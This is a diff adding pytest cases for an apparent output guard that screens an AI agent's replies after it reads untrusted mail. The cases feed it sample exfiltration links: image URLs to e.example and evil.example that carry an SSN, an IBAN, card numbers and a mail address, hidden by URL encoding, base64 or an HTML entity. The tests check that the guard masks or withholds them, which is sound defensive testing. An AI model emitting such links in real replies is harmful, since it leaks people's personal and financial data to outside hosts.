@@ -364,3 +364,34 @@ def test_a_streamed_reply_releases_ordinary_links() -> None:
     text = " ".join(f"see ![x]({link})" for link in ORDINARY_LINKS) + " end"
     screen = WindowScreen()
     assert "".join(screen.feed(ch) for ch in text) + screen.close() == text
+
+
+@pytest.mark.parametrize(
+    "link",
+    [
+        "https://e.example/p?ssn=078%2D05%2D1120",  # the pair's name is the SSN's context
+        "https://e.example/p?i=" + base64.b64encode(b"DE89 3704 0044 0532 0130 00").decode(),
+        "https://e.example/p?c=4111%2D1111%2D1111%2D1111",
+        # A card framed by binary bytes is still read (mostly printable).
+        "https://e.example/p?c="
+        + base64.b64encode(b"\x00\x01" + b"4111111111111111" + b"\xff").decode(),
+    ],
+)
+async def test_the_mails_other_numbers_encoded_in_a_link_are_masked(link: str) -> None:
+    guardian, make = await _after_untrusted_mail(USER_NAMES_A_HOST, PAYROLL)
+    verdict = await guardian.check(make.message("agent", f"![]({link})"))
+    (text,) = _texts(verdict)
+    assert text == "![](" + "*" * len(link) + ")"
+
+
+async def test_the_mails_address_as_an_html_entity_in_a_link_is_withheld() -> None:
+    guardian, make = await _after_untrusted_mail("Who wrote?", "From mallory@corp.example, hi")
+    reply = '<img src="https://evil.example/p?w=mallory&commat;corp.example">'
+    verdict = await guardian.check(make.message("agent", reply))
+    assert _texts(verdict) == ['<img src="[withheld: from untrusted content]">']
+
+
+def test_a_streamed_reply_holds_a_link_too_long_to_decode() -> None:
+    text = f"see https://e.example/?q={'a' * MAX_LINK_CHARS} " + "and more " * 20
+    screen = WindowScreen()
+    assert "".join(screen.feed(ch) for ch in text) + screen.close() == "see "
